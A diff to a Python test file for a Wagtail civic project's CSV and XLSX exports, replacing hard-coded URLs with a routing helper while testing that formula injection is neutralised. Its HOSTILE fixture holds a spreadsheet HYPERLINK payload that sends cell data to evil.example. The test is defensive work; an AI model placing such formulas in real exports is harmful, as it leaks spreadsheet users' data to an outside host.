@@ -12,9 +12,11 @@ from wagtail.contrib.forms.models import FormSubmission
 
 from fund.models import Application
 from participation.models import Contribution, FormPage
-from projects.models import ProjectPage
+from projects.models import ProjectIndexPage, ProjectPage
 from stadtteil.exports import cell
+from stadtteil.routing import url
 from subscriptions.models import CONSENT_VERSION, Subscriber
+from tests.conftest import demo_page
 
 HOSTILE = {
     "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
@@ -109,7 +111,7 @@ def hostile_measure(demo):
 
 
 def test_plan_csv_german(client, hostile_measure):
-    response = client.get("/de/massnahmen/plan/csv/")
+    response = client.get(url(demo_page(ProjectIndexPage), "plan_csv"))
     assert_safe_csv(response, [NEUTRALISED["hyperlink"], NEUTRALISED["control"]])
     assert any(value.isdigit() and int(value) > 0 for value in csv_cells(response))  # amounts stay numbers
 
@@ -119,19 +121,19 @@ def test_plan_csv_english(client, demo, hostile_measure):
     english.title = HOSTILE["minus"]
     english.responsible_body = HOSTILE["tab"]
     english.save_revision().publish()
-    response = client.get("/en/measures/plan/csv/")
+    response = client.get(url(demo_page(ProjectIndexPage, lang="en"), "plan_csv"))
     assert_safe_csv(response, [NEUTRALISED["minus"], NEUTRALISED["tab"]])
 
 
 def test_plan_xlsx(client, hostile_measure):
-    response = client.get("/de/massnahmen/plan/xlsx/")
+    response = client.get(url(demo_page(ProjectIndexPage), "plan_xlsx"))
     assert_safe_xlsx(response, [NEUTRALISED["hyperlink"], NEUTRALISED["control"]])
     numbers = [c.value for c in xlsx_cells(response) if isinstance(c.value, int)]
     assert numbers and max(numbers) > 0  # amounts are numbers, not text
 
 
 def test_open_data_csv(client, hostile_measure):
-    response = client.get("/de/massnahmen/open-data/csv/")
+    response = client.get(url(demo_page(ProjectIndexPage), "data_csv"))
     assert_safe_csv(response, [NEUTRALISED["hyperlink"], NEUTRALISED["at"], NEUTRALISED["plus"]])
     rows = list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig"))))
     # Empty stays empty (no apostrophe), numbers stay numbers.
